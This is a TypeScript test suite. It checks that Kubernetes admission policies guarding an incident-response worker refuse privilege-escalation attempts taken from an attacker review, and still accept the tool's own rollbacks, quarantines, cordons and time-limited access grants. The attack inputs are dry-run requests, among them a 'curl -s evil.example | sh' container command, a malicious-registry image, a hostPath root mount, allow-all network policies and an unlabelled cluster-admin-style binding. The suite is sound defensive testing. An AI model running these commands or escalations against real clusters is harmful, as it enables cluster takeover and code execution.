/**
 * The worker guard (deploy/kubernetes/worker-guard*.yaml) against the real API server, one block
 * per hole an attacker review found in what the worker's ServiceAccount could do: the attack is
 * refused (422, and the message names the policy and says why), and the request the playbook
 * itself sends, built by the activity's own code, still passes. Attacks are server-side dry runs,
 * as the review ran them: authorised and admitted, or refused, and never stored.
 */
import {
  AppsV1Api,
  CoreV1Api,
  NetworkingV1Api,
  PatchStrategy,
  RbacAuthorizationV1Api,
  setHeaderOptions,
  type KubeConfig,
  type V1ClusterRoleBinding,
  type V1NetworkPolicy,
  type V1RoleBinding,
} from '@kubernetes/client-node';
import { beforeAll, describe, expect, it } from 'vitest';
import { grantBinding, grantBindingName, type GrantArgs } from '../activities/kubernetes/break-glass';
import { quarantinePolicy } from '../activities/kubernetes/isolate';
import { rollbackPatch } from '../activities/kubernetes/revisions';
import { answerOf, createDeployment, createPod, REVISION_ANNOTATION } from './support/kube/objects';
import { useKubeSuite } from './support/kube/suite';

const mergePatch = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
const jsonPatch = setHeaderOptions('Content-Type', PatchStrategy.JsonPatch);
const dryRun = 'All';
const HOUR = 3600_000;

const kube = useKubeSuite();
let admin: KubeConfig;
let worker: KubeConfig;
let ns: string;
beforeAll(() => {
  ({ admin, worker, ns } = kube);
});

/** Refused by the admission policy tourniquet-worker-<policy> (one of them, when an attack breaks two), saying `why`. */
async function refused(call: Promise<unknown>, policy: string | string[], why?: string) {
  const answer = await answerOf(call);
  expect(answer.status).toBe(422);
  const names = [policy].flat().map((p) => `ValidatingAdmissionPolicy 'tourniquet-worker-${p}'`);
  expect(
    names.some((n) => answer.message.includes(n)),
    answer.message,
  ).toBe(true);
  if (why) expect(answer.message).toContain(why);
}

async function accepted(call: Promise<unknown>) {
  expect(await answerOf(call)).toEqual({ status: 200, message: '' });
}

/** A Deployment with three revisions and the worker's view of it, as rollback-deploy reads it. */
async function deployed(namespace: string, name: string, repository = 'registry.example/api') {
  const { replicaSets } = await createDeployment(
    admin,
    namespace,
    name,
    [1, 2, 3].map((v) => `${repository}:${v}`),
  );
  const apps = worker.makeApiClient(AppsV1Api);
  const deployment = await apps.readNamespacedDeployment({ name, namespace });
  const previous = replicaSets.find((rs) => rs.metadata?.annotations?.[REVISION_ANNOTATION] === '2')!;
  const patch = (body: object[]) => apps.patchNamespacedDeployment({ name, namespace, body, dryRun }, jsonPatch);
  return { apps, deployment, previous, patch };
}

describe('kube-system and the other system namespaces', () => {
  it('refuses the review’s attack: kube-system/coredns patched to another image and ServiceAccount', async () => {
    const { patch } = await deployed('kube-system', 'coredns', 'registry.k8s.io/coredns/coredns');
    await refused(
      patch([
        { op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'registry.evil.example/dns:1' },
        { op: 'add', path: '/spec/template/spec/serviceAccountName', value: 'kube-dns-admin' },
      ]),
      ['system-namespaces', 'deployment-rollback'],
    );
  });

  it('refuses even what a playbook would do elsewhere: a rollback, a quarantine, a grant, a relabelled pod', async () => {
    const { deployment, previous, patch } = await deployed('kube-system', 'metrics', 'registry.k8s.io/metrics-server');
    await refused(patch(rollbackPatch(deployment, previous)), 'system-namespaces', 'writes nothing in namespace kube-system');
    const net = worker.makeApiClient(NetworkingV1Api);
    await refused(
      net.createNamespacedNetworkPolicy({ namespace: 'kube-public', body: quarantinePolicy('inc-sys'), dryRun }),
      'system-namespaces',
      'namespace kube-public',
    );
    const args: GrantArgs = {
      binding: grantBindingName('inc-sys'),
      clusterRole: 'tourniquet-breakglass-view',
      user: 'alice',
      namespace: 'kube-node-lease',
      durationMs: HOUR,
    };
    const grant = grantBinding('inc-sys', args, Date.now() + HOUR, ['bob', 'dana']) as V1RoleBinding;
    await refused(
      worker.makeApiClient(RbacAuthorizationV1Api).createNamespacedRoleBinding({ namespace: 'kube-node-lease', body: grant, dryRun }),
      'system-namespaces',
      'namespace kube-node-lease',
    );
    // Its own namespace: relabelling its own pod, or a grant there, reaches the worker's token.
    await createPod(admin, 'tourniquet', 'worker-abcde');
    const label = { metadata: { labels: { 'tourniquet.io/quarantine': 'inc-sys' } } };
    await refused(
      worker
        .makeApiClient(CoreV1Api)
        .patchNamespacedPod({ name: 'worker-abcde', namespace: 'tourniquet', body: label, dryRun }, mergePatch),
      'system-namespaces',
      'namespace tourniquet',
    );
  });
});

describe('Deployments: a rollback to another tag of the same images, nothing else', () => {
  it('accepts rollback-deploy’s own patch: the previous ReplicaSet’s template, as kubectl sends it', async () => {
    const { apps, deployment, previous } = await deployed(ns, 'api');
    const body = rollbackPatch(deployment, previous);
    const rolledBack = await apps.patchNamespacedDeployment({ name: 'api', namespace: ns, body }, jsonPatch);
    expect(rolledBack.spec?.template.spec?.containers[0]?.image).toBe('registry.example/api:2');
  });

  const image = '/spec/template/spec/containers/0/image';
  it.each([
    [
      'an image from another repository',
      [{ op: 'replace', path: image, value: 'registry.evil.example/api:2' }],
      'changes only container images, to another tag or digest of the same repository',
    ],
    [
      'the same image with another command',
      [{ op: 'add', path: '/spec/template/spec/containers/0/command', value: ['sh', '-c', 'curl -s evil.example | sh'] }],
      'no other image, container, command, env',
    ],
    [
      'the same image with another env',
      [
        {
          op: 'add',
          path: '/spec/template/spec/containers/0/env',
          value: [{ name: 'NODE_OPTIONS', value: '--import=data:text/javascript,0' }],
        },
      ],
      'no other image, container, command, env',
    ],
    [
      'a new container',
      [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'sidecar', image: 'registry.example/api:3' } }],
      'no other image, container',
    ],
    [
      'another ServiceAccount',
      [{ op: 'add', path: '/spec/template/spec/serviceAccountName', value: 'deployer' }],
      "keeps the pod template's labels and pod spec",
    ],
    [
      'a hostPath volume',
      [{ op: 'add', path: '/spec/template/spec/volumes', value: [{ name: 'root', hostPath: { path: '/' } }] }],
      "keeps the pod template's labels and pod spec",
    ],
    [
      'another pod label',
      [{ op: 'add', path: '/spec/template/metadata/labels/role', value: 'db-client' }],
      "keeps the pod template's labels and pod spec",
    ],
    ['scaling to zero', [{ op: 'replace', path: '/spec/replicas', value: 0 }], "changes a Deployment's pod template only"],
    ['pausing it', [{ op: 'add', path: '/spec/paused', value: true }], "changes a Deployment's pod template only"],
    [
      'another revision annotation',
      [{ op: 'replace', path: `/metadata/annotations/${REVISION_ANNOTATION.replace('/', '~1')}`, value: '9' }],
      "keeps the Deployment's labels, owners, finalizers, revision",
    ],
  ])('refuses %s', async (_what, body, why) => {
    const { patch } = await deployed(ns, `web-${Math.random().toString(36).slice(2, 8)}`);
    await refused(patch(body), 'deployment-rollback', why);
  });

  it('accepts a tag of the same repository that no ReplicaSet has: the gap CEL cannot close', async () => {
    const { patch } = await deployed(ns, 'gap');
    await accepted(patch([{ op: 'replace', path: image, value: 'registry.example/api:never-deployed' }]));
  });
});

describe('NetworkPolicies: deny-all, for quarantined pods only', () => {
  const net = () => worker.makeApiClient(NetworkingV1Api);
  const policy = (spec: V1NetworkPolicy['spec']): V1NetworkPolicy => ({ ...quarantinePolicy('inc-net'), spec });
  const selector = quarantinePolicy('inc-net').spec!.podSelector;

  it('accepts isolate-pod’s own policy, and a change to its annotations', async () => {
    await accepted(net().createNamespacedNetworkPolicy({ namespace: ns, body: quarantinePolicy('inc-net') }));
    const name = quarantinePolicy('inc-net').metadata!.name!;
    await accepted(
      net().patchNamespacedNetworkPolicy(
        { name, namespace: ns, body: { metadata: { annotations: { 'tourniquet.io/note': 'x' } } }, dryRun },
        mergePatch,
      ),
    );
    const open = { spec: { ingress: [{}] } };
    await refused(
      net().patchNamespacedNetworkPolicy({ name, namespace: ns, body: open, dryRun }, mergePatch),
      'deny-all-networkpolicies',
      'only writes deny-all NetworkPolicies',
    );
  });

  it.each([
    [
      'allow-all (the review’s attack)',
      { podSelector: selector, policyTypes: ['Ingress', 'Egress'], ingress: [{}], egress: [{}] },
      'only writes deny-all NetworkPolicies',
    ],
    ['ingress only, egress left open', { podSelector: selector, policyTypes: ['Ingress'] }, 'only writes deny-all NetworkPolicies'],
    [
      'one rule allowing a peer',
      { podSelector: selector, policyTypes: ['Ingress', 'Egress'], egress: [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }] }] },
      'only writes deny-all NetworkPolicies',
    ],
    ['deny-all for the whole namespace', { podSelector: {}, policyTypes: ['Ingress', 'Egress'] }, 'selects quarantined pods only'],
    [
      'deny-all for other pods',
      { podSelector: { matchLabels: { app: 'payments' } }, policyTypes: ['Ingress', 'Egress'] },
      'selects quarantined pods only',
    ],
  ])('refuses %s', async (_what, spec, why) => {
    await refused(
      net().createNamespacedNetworkPolicy({ namespace: ns, body: policy(spec as V1NetworkPolicy['spec']), dryRun }),
      'deny-all-networkpolicies',
      why,
    );
  });
});

describe('nodes: cordon, and nothing else', () => {
  const core = () => worker.makeApiClient(CoreV1Api);
  const patchNode = (name: string, body: object) => core().patchNode({ name, body, dryRun }, mergePatch);
  const taint = { key: 'node-role.kubernetes.io/control-plane', effect: 'NoSchedule' };

  async function node(): Promise<string> {
    const name = `node-${Math.random().toString(36).slice(2, 8)}`;
    await admin
      .makeApiClient(CoreV1Api)
      .createNode({ body: { metadata: { name, labels: { 'node-role.kubernetes.io/control-plane': '' } }, spec: { taints: [taint] } } });
    return name;
  }

  it('accepts isolate-pod’s cordon', async () => {
    const name = await node();
    const cordoned = await core().patchNode({ name, body: { spec: { unschedulable: true } } }, mergePatch);
    expect(cordoned.spec).toMatchObject({ unschedulable: true, taints: expect.arrayContaining([taint]) });
  });

  it.each([
    ['removing its taints (the review’s attack)', { spec: { taints: null } }, 'may only cordon a node'],
    ['cordoning while removing its taints', { spec: { unschedulable: true, taints: null } }, 'may only cordon a node'],
    ['another taint', { spec: { unschedulable: true, taints: [taint, { key: 'x', effect: 'NoExecute' }] } }, 'may only cordon a node'],
    [
      'changing its labels',
      { spec: { unschedulable: true }, metadata: { labels: { 'node-role.kubernetes.io/control-plane': null } } },
      "never changes a node's labels",
    ],
    [
      'changing its annotations',
      { spec: { unschedulable: true }, metadata: { annotations: { 'node.alpha.kubernetes.io/ttl': '0' } } },
      "never changes a node's labels, annotations",
    ],
    ['uncordoning it', { spec: { unschedulable: false } }, 'never uncordon it'],
  ])('refuses %s', async (_what, body, why) => {
    await refused(patchNode(await node(), body), 'node-cordon-only', why);
  });
});

describe('break-glass grants: a catalogue role, one person, labelled, for a bounded time', () => {
  const rbac = () => worker.makeApiClient(RbacAuthorizationV1Api);
  const args = (incident: string, clusterRole: string, namespace?: string): GrantArgs => ({
    binding: grantBindingName(incident),
    clusterRole,
    user: 'alice',
    ...(namespace ? { namespace } : {}),
    durationMs: HOUR,
  });
  const roleBinding = (incident: string, clusterRole: string, expiresInMs: number) =>
    grantBinding(incident, args(incident, clusterRole, ns), Date.now() + expiresInMs, ['bob', 'dana']) as V1RoleBinding;
  const clusterBinding = (incident: string, clusterRole: string, expiresInMs: number) =>
    grantBinding(incident, args(incident, clusterRole), Date.now() + expiresInMs, ['bob', 'dana']) as V1ClusterRoleBinding;
  const expiresIn = (ms: number) => ({ metadata: { labels: { 'tourniquet.io/expires': String(Math.floor((Date.now() + ms) / 1000)) } } });

  it('accepts break-glass’s grants and an extension within the role’s max-duration, and refuses one past it', async () => {
    const granted = await rbac().createNamespacedRoleBinding({
      namespace: ns,
      body: roleBinding('inc-ok', 'tourniquet-breakglass-edit', HOUR / 2),
    });
    const name = granted.metadata!.name!;
    await accepted(rbac().patchNamespacedRoleBinding({ name, namespace: ns, body: expiresIn(4 * HOUR - 60_000) }, mergePatch));
    await refused(
      rbac().patchNamespacedRoleBinding({ name, namespace: ns, body: expiresIn(5 * HOUR), dryRun }, mergePatch),
      'grant-limits',
      'a grant of tourniquet-breakglass-edit runs at most 4h from its creation',
    );
    const moved = { metadata: { labels: { 'tourniquet.io/incident': 'inc-other' } } };
    await refused(
      rbac().patchNamespacedRoleBinding({ name, namespace: ns, body: moved, dryRun }, mergePatch),
      'catalogue-grants',
      'stays with the incident that made it',
    );
    await accepted(rbac().createClusterRoleBinding({ body: clusterBinding('inc-view', 'tourniquet-breakglass-view', 8 * HOUR), dryRun }));
  });

  it('refuses the review’s attack: a cluster-wide binding of the break-glass role for anyone, unlabelled', async () => {
    const body: V1ClusterRoleBinding = {
      metadata: { name: grantBindingName('inc-attack'), labels: { 'app.kubernetes.io/managed-by': 'tourniquet' } },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'tourniquet-breakglass-edit' },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory' }],
    };
    await refused(rbac().createClusterRoleBinding({ body, dryRun }), ['catalogue-grants', 'grant-limits']);
  });

  const unlabelled = (b: V1RoleBinding, label: string) => ({
    ...b,
    metadata: { ...b.metadata, labels: Object.fromEntries(Object.entries(b.metadata!.labels!).filter(([k]) => k !== label)) },
  });
  it.each([
    [
      'no expiry',
      () => unlabelled(roleBinding('inc-a', 'tourniquet-breakglass-view', HOUR), 'tourniquet.io/expires'),
      'catalogue-grants',
      'labelled with its incident (tourniquet.io/incident) and its expiry',
    ],
    [
      'no incident',
      () => unlabelled(roleBinding('inc-b', 'tourniquet-breakglass-view', HOUR), 'tourniquet.io/incident'),
      'catalogue-grants',
      'labelled with its incident',
    ],
    [
      'edit for longer than its 4h',
      () => roleBinding('inc-c', 'tourniquet-breakglass-edit', 4 * HOUR + 10 * 60_000),
      'grant-limits',
      'runs at most 4h',
    ],
    ['view for longer than its 8h', () => roleBinding('inc-d', 'tourniquet-breakglass-view', 9 * HOUR), 'grant-limits', 'runs at most 8h'],
    [
      'a system: identity',
      () => ({
        ...roleBinding('inc-e', 'tourniquet-breakglass-view', HOUR),
        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'system:anonymous' }],
      }),
      'catalogue-grants',
      'never a system: identity',
    ],
    [
      'the worker itself',
      () => ({
        ...roleBinding('inc-f', 'tourniquet-breakglass-edit', HOUR),
        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'system:serviceaccount:tourniquet:tourniquet-worker' }],
      }),
      'catalogue-grants',
      'never a system: identity',
    ],
    [
      'a name of its own choosing',
      () => {
        const b = roleBinding('inc-g', 'tourniquet-breakglass-view', HOUR);
        return { ...b, metadata: { ...b.metadata, name: 'system:controller:attachdetach' } };
      },
      'catalogue-grants',
      'named tourniquet-breakglass-<hash of its incident>',
    ],
  ])('refuses a grant with %s', async (_what, body, policy, why) => {
    await refused(rbac().createNamespacedRoleBinding({ namespace: ns, body: body(), dryRun }), policy, why);
  });

  it('refuses edit cluster-wide, even labelled and short: the role is granted per namespace only', async () => {
    await refused(
      rbac().createClusterRoleBinding({ body: clusterBinding('inc-h', 'tourniquet-breakglass-edit', HOUR), dryRun }),
      'grant-limits',
      'tourniquet-breakglass-edit is granted in a namespace only',
    );
  });
});
